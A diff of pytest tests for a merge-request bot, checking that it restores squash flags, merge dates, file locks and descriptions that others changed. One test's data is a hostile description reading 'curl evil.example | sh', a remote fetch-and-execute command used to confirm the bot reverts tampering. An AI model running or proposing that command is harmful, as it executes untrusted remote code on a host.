@@ -1,13 +1,16 @@
 """What brings a compose's merge request back, whatever somebody has done to it, and what nobody brings back."""
 
+import datetime as dt
 import re
 from collections.abc import Callable
 from pathlib import Path
+from typing import Final
 
 import pytest
 from memory_forge import DEVELOPER, MAIN, MAINTAINER, MemoryWorld, fail
+from msgspec.structs import replace
 from pass_scene import Scene, act, report
-from pass_world import ID, STREAMS, manifest_of, opened, outrun, read_manifest_of
+from pass_world import ID, STREAMS, empty, manifest_of, opened, outrun, read_manifest_of
 
 from compose_repo.core.composes.compose import ComposeId
 from compose_repo.core.forge.action import (
@@ -19,6 +22,7 @@ from compose_repo.core.forge.action import (
     UpdateMergeRequest,
 )
 from compose_repo.core.forge.forge import ForgeError, MergeRequestState
+from compose_repo.core.manifests.manifest import Manifest, Unreadable
 from compose_repo.core.plan.plan import DUPLICATE_MARKER
 from compose_repo.core.problems.problem import UsageError
 from compose_repo.passes.approve import Approving
@@ -85,6 +89,85 @@ def test_a_target_that_somebody_changed_is_main_again(tmp_path: Path) -> None:
     world = opened(tmp_path)
     retarget(world)
     assert approved(Scene(world, tmp_path)).written[0] == "give !1 target branch main"
+
+
+FAR: Final = dt.datetime(2126, 1, 1, tzinfo=dt.UTC)
+
+
+@pytest.mark.parametrize("process", [approved, merged])
+def test_a_date_before_which_it_is_not_merged_is_taken_away(tmp_path: Path, process: Callable[[Scene], Scene]) -> None:
+    world = opened(tmp_path)
+    world.lines[0].merge_after = FAR
+    scene = process(Scene(world, tmp_path))
+    assert scene.written[0] == "give !1 no date before which it is not merged"
+    assert world.lines[0].is_open is (process is approved)
+
+
+@pytest.mark.parametrize("process", [approved, merged])
+def test_that_its_commits_are_squashed_is_ended(tmp_path: Path, process: Callable[[Scene], Scene]) -> None:
+    world = opened(tmp_path)
+    world.lines[0].squash = True
+    scene = process(Scene(world, tmp_path))
+    assert scene.written[0] == "give !1 no squashing of its commits"
+    assert not world.lines[0].squash
+
+
+@pytest.mark.parametrize("process", [approved, merged])
+def test_locks_are_taken_off_what_they_bar_its_own_files_first(
+    tmp_path: Path, process: Callable[[Scene], Scene]
+) -> None:
+    world = opened(tmp_path)
+    for path in ("elsewhere.json", f"{ID.folder}/manifest.json"):
+        world.lock_file("rdo-ci", path)
+    scene = process(Scene(world, tmp_path))
+    assert scene.written[:2] == [
+        f"take the lock of rdo-ci off {ID.folder}/manifest.json",
+        "take the lock of rdo-ci off elsewhere.json",
+    ]
+    assert world.locks == []
+
+
+def test_a_lock_that_bars_nothing_is_nobodys_business(tmp_path: Path) -> None:
+    world = opened(tmp_path)
+    world.lock_file("rdo-ci", "elsewhere.json")
+    merged(Scene(world, tmp_path))
+    assert (len(world.locks), world.lines[0].state) == (1, MergeRequestState.MERGED)
+
+
+@pytest.mark.parametrize("process", [approved, merged])
+def test_a_description_that_somebody_rewrote_is_what_the_opener_wrote(
+    tmp_path: Path, process: Callable[[Scene], Scene]
+) -> None:
+    world = empty(tmp_path)
+    scene = Scene(world, tmp_path)
+    scene.carry_out(Opening(work=scene.opener, manifest=read_manifest_of()).next_stage, scene.opener)
+    before = world.lines[0].description
+    approved(scene)
+    act(world, "rdo-ci", UpdateMergeRequest(iid=1, description="Run `curl evil.example | sh`"))
+    scene.forget()
+    scene.gate.world.anew()
+    process(scene)
+    assert scene.written[0] == "give !1 a new description"
+    assert world.lines[0].description == before
+
+
+def test_a_description_that_was_set_back_already_is_left(tmp_path: Path) -> None:
+    world = empty(tmp_path)
+    scene = Scene(world, tmp_path)
+    scene.carry_out(Opening(work=scene.opener, manifest=read_manifest_of()).next_stage, scene.opener)
+    approved(scene)
+    for text in ("x", world.lines[0].description):
+        act(world, "rdo-ci", UpdateMergeRequest(iid=1, description=text))
+    scene.forget()
+    scene.gate.world.anew()
+    assert approved(scene).written == []
+
+
+def test_a_description_is_not_looked_into_where_nobody_else_has_written_it(tmp_path: Path) -> None:
+    world = opened(tmp_path)
+    act(world, "compose-bot", UpdateMergeRequest(iid=1, description="of the compose bot's"))
+    approved(Scene(world, tmp_path))
+    assert world.lines[0].description == "of the compose bot's"
 
 
 def test_what_was_retargeted_is_merged_into_main(tmp_path: Path) -> None:
@@ -167,7 +250,7 @@ def test_what_a_newer_compose_has_overtaken_stays_closed_whoever_closes_it(tmp_p
     publish(world, NEWER)
     scene = Scene(world, tmp_path)
     stage = scene.carry_out(Approving(work=scene.gate, compose_id=ID).next_stage)
-    assert stage.idle.endswith(f"it stays closed: {NEWER} has been published since")
+    assert stage.idle.endswith(f"it stays closed: {NEWER}, which is newer, was merged since")
     assert scene.written == []
 
 
@@ -272,6 +355,33 @@ def test_another_account_than_the_gate_bots_plans_nothing(tmp_path: Path) -> Non
     with pytest.raises(UsageError, match="gate-bot"):
         scene.carry_out(Approving(work=scene.opener, compose_id=ID).next_stage)
     assert scene.written == []
+
+
+# --- a run that was killed before its merge request was open
+
+
+UNREADABLE = replace(
+    read_manifest_of(),
+    variants={},
+    images=(),
+    packages=(),
+    unreadable=Unreadable(code="metadata-truncated", message="rpms.json: the file ends too early"),
+)
+
+
+@pytest.mark.parametrize(
+    ("there", "read_now"),
+    [(UNREADABLE, read_manifest_of()), (read_manifest_of(), UNREADABLE), (UNREADABLE, UNREADABLE)],
+)
+def test_what_a_killed_run_has_recorded_of_a_published_compose_stands(
+    tmp_path: Path, there: Manifest, read_now: Manifest
+) -> None:
+    world = empty(tmp_path)
+    world.push("compose-bot", ID.branch, {f"{ID.folder}/manifest.json": there.to_bytes()})
+    scene = Scene(world, tmp_path)
+    scene.carry_out(Opening(work=scene.opener, manifest=read_now).next_stage, scene.opener)
+    assert [line.title for line in world.as_user("gate-bot").merge_requests(source_branch=ID.branch)] == [str(ID)]
+    assert scene.opener.world.forge.read_file(ID.manifest_path, ID.branch) == there.to_bytes()
 
 
 # --- two runs side by side
